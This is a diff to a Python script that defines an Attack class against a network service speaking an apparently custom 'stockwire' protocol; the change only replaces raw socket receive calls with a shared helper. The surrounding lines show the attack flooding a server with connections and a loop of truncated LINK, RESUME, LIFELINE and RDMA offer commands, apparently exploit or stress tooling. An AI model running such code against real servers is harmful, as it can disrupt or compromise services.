@@ -11,7 +11,7 @@ import struct
 import sys
 import time
 
-from stockwire import DEVICE_COUNT, HELLO, command
+from stockwire import DEVICE_COUNT, HELLO, command, receive
 
 ALLOC_BUFFER, GET_DEVICE_MEMORY = 0, 11
 LINK, RESUME, LIFELINE, RDMA_OFFER = 130, 132, 134, 128
@@ -29,9 +29,9 @@ def ask_session(server, address, wait=True):
     host, port = server.endpoint.rsplit(':', 1)
     peer = socket.create_connection((host, int(port)), timeout=20, source_address=(address, 0))
     peer.sendall(GREETING + command(ALLOC_BUFFER, struct.pack('<IQ', 0, 4096)))
-    assert len(peer.recv(36, socket.MSG_WAITALL)) == 36
+    receive(peer, 36)
     if wait:
-        assert len(peer.recv(24, socket.MSG_WAITALL)) == 24
+        receive(peer, 24)
     return peer
 
 
@@ -152,7 +152,7 @@ class Attack:
             for peer in self.peers:
                 with contextlib.suppress(OSError):
                     peer.settimeout(0.5)
-                    peer.recv(36 + 24, socket.MSG_WAITALL)
+                    receive(peer, 36 + 24)
                 peer.close()
             self.peers = []
 
@@ -161,7 +161,7 @@ class Attack:
         peer = self.connect()
         self.peers.append(peer)
         peer.sendall(caravan())
-        token, = struct.unpack_from('<Q', peer.recv(36, socket.MSG_WAITALL), 28)
+        token, = struct.unpack_from('<Q', receive(peer, 36), 28)
         peer.sendall(command(133))  # RECORDS
         while self.goes_on():
             for first in command(LINK)[:5], command(LIFELINE), command(RESUME, bytes(12)), command(RDMA_OFFER)[:9]:
